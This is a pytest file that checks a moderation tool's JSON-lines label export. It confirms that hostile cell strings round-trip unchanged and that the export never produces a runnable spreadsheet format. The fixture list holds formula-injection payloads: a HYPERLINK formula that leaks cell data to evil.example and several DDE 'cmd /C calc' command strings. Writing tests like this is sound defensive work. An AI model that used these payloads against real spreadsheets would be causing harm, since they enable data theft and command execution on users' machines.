"""Trial 20. Promise: an export runs nowhere and loses nothing.

Labels leave as JSON lines alone; there is no format whose cells a spreadsheet would run.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest

from moderation.models import Case, User
from moderation.models.cases import Verdict
from moderation.operations import export, ingest, review
from moderation.queries.labels import LabelFilter

CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '"quoted", and a comma; and a ; too',
    "two\nlines\r\nand\u2028a third\u0085fourth",
    '{"label": 0}\n{"label": 0}',
]


@pytest.fixture
def decided(open_case: Callable[..., Case], moderator: User, later: Callable[[float], datetime]) -> None:
    for number, cell in enumerate(CELLS):
        author = ingest.IncomingAuthor(external_id=cell[:150], display_name=cell)
        case = open_case(text=f"{cell} number {number}", author=author)
        review.claim(case_id=case.pk, moderator=moderator, at=later(2))
        review.decide(
            case_id=case.pk, case_version=1, moderator=moderator, verdict=Verdict.SPAM, at=later(3 + number)
        )


def test_hostile_cells_come_back_letter_by_letter(
    decided: None, tmp_path: Path, later: Callable[[float], datetime]
) -> None:
    out = tmp_path / "labels.jsonl"
    manifest = export.write(out=out, wanted=LabelFilter(), at=later(99))

    lines = out.read_bytes().split(b"\n")

    assert lines.pop() == b""
    rows = [json.loads(line) for line in lines]
    assert [row["text"] for row in rows] == [f"{cell} number {number}" for number, cell in enumerate(CELLS)]
    assert [row["record"]["author"]["display_name"] for row in rows] == CELLS
    assert {row["label"] for row in rows} == {1}
    assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
